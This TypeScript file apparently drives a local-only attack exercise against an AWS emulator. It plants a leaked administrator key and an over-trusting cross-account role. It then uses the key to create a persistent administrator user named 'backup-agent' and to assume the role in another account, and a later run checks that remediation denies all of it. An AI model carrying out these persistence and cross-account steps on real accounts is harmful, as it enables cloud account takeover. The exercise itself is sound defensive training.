import { existsSync, readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import {
  AttachRolePolicyCommand,
  AttachUserPolicyCommand,
  CreateRoleCommand,
  CreateUserCommand,
  IAMClient,
  ListUsersCommand,
} from "@aws-sdk/client-iam";
import { STSClient } from "@aws-sdk/client-sts";
import { formatProblem, type Landscape, landscapePath, listedAccounts, loadLandscape } from "../../landscape";
import { deployRoleArn } from "../../landscape/arns";
import { managementKeys } from "./accounts";
import { assumeRole, type Keys, newKey } from "./clients";

const administratorAccess = "arn:aws:iam::aws:policy/AdministratorAccess";

/** What the attacker has in hand, kept beside the landscape of the local AWS. */
interface Loot {
  readonly leaked: Keys;
  readonly second: Keys;
  readonly session: Keys;
}

/**
 * `npm run attack`, on the local AWS only: leaks a key and misuses it; prints the key's id. With `again`, everything
 * that the attacker has is tried once more: exit 0 when all of it is denied.
 */
async function main(): Promise<void> {
  const endpoint = process.env.AWS_ENDPOINT_URL ?? "";
  if (!/^http:\/\/127\.0\.0\.1:\d+$/.test(endpoint)) {
    process.stderr.write("The attack is for the local AWS: npm start, then . .local-aws/responder.sh\n");
    process.exitCode = 2;
    return;
  }
  const landscape = load();
  const file = path.join(path.dirname(landscapePath(undefined)), "attack.json");
  if (process.argv[2] === "again") return again(file);
  if (existsSync(file)) return say(JSON.parse(readFileSync(file, "utf8")) as Loot);
  const leaked = await leak(landscape);
  const loot = await attack(landscape, leaked);
  writeFileSync(file, JSON.stringify(loot), { mode: 0o600 });
  say(loot);
}

const say = ({ leaked }: Loot): void => {
  process.stdout.write(`${leaked.accessKeyId}\n`);
};
const tell = (line: string) => process.stderr.write(`${line}\n`);

function load(): Landscape {
  const result = loadLandscape(landscapePath(undefined));
  if (result.ok) return result.value;
  throw new Error(result.problems.map(formatProblem).join("\n"));
}

const settings = (credentials: Keys) => ({ region: "us-east-1", credentials, maxAttempts: 1 });

async function administratorOf(landscape: Landscape, name: string): Promise<IAMClient> {
  const account = listedAccounts(landscape).find((listed) => listed.name === name);
  if (!account) throw new Error(`the landscape has no account ${name}`);
  const keys = await assumeRole(new STSClient(settings(managementKeys)), deployRoleArn(landscape, account));
  return new IAMClient(settings(keys));
}

const reports = "reports";

/** The careless part: an administrator's key in one account, and a role in another that trusts the account. */
async function leak(landscape: Landscape): Promise<Keys> {
  const iam = await administratorOf(landscape, "payments-prod");
  const { User } = await iam.send(new CreateUserCommand({ UserName: "builder" }));
  await iam.send(new AttachUserPolicyCommand({ UserName: "builder", PolicyArn: administratorAccess }));
  const other = await administratorOf(landscape, "log-archive");
  const account = User?.Arn?.split(":")[4];
  const trust = [{ Effect: "Allow", Principal: { AWS: account }, Action: "sts:AssumeRole" }];
  await other.send(
    new CreateRoleCommand({
      RoleName: reports,
      AssumeRolePolicyDocument: JSON.stringify({ Version: "2012-10-17", Statement: trust }),
    }),
  );
  await other.send(new AttachRolePolicyCommand({ RoleName: reports, PolicyArn: administratorAccess }));
  return newKey(iam, "builder");
}

/** The attacker, with nothing but the leaked key. */
async function attack(landscape: Landscape, leaked: Keys): Promise<Loot> {
  const iam = new IAMClient(settings(leaked));
  await iam.send(new CreateUserCommand({ UserName: "backup-agent" }));
  await iam.send(new AttachUserPolicyCommand({ UserName: "backup-agent", PolicyArn: administratorAccess }));
  const second = await newKey(iam, "backup-agent");
  tell("attacker: made the user backup-agent, an administrator, with a key of its own");
  const other = listedAccounts(landscape).find(({ name }) => name === "log-archive");
  const session = await assumeRole(
    new STSClient(settings(leaked)),
    `arn:${landscape.partition.name}:iam::${other?.id}:role/${reports}`,
  );
  tell("attacker: became the role reports in log-archive");
  const loot = { leaked, second, session };
  await tryAll(loot);
  return loot;
}

async function again(file: string): Promise<void> {
  if (!existsSync(file)) {
    tell("There was no attack yet: npm run attack");
    process.exitCode = 2;
    return;
  }
  const open = await tryAll(JSON.parse(readFileSync(file, "utf8")) as Loot);
  if (open > 0) process.exitCode = 1;
}

/** Lists users with everything that the attacker has; how many calls went through. */
async function tryAll({ leaked, second, session }: Loot): Promise<number> {
  const hands = {
    "the leaked key": leaked,
    "the key of backup-agent": second,
    "the session of reports": session,
  };
  let open = 0;
  for (const [name, keys] of Object.entries(hands)) {
    try {
      const { Users = [] } = await new IAMClient(settings(keys)).send(new ListUsersCommand({}));
      open += 1;
      tell(`attacker: iam:ListUsers with ${name}: ${Users.length} users`);
    } catch (error) {
      tell(`attacker: iam:ListUsers with ${name}: ${(error as Error).name}`);
    }
  }
  return open;
}

void main();
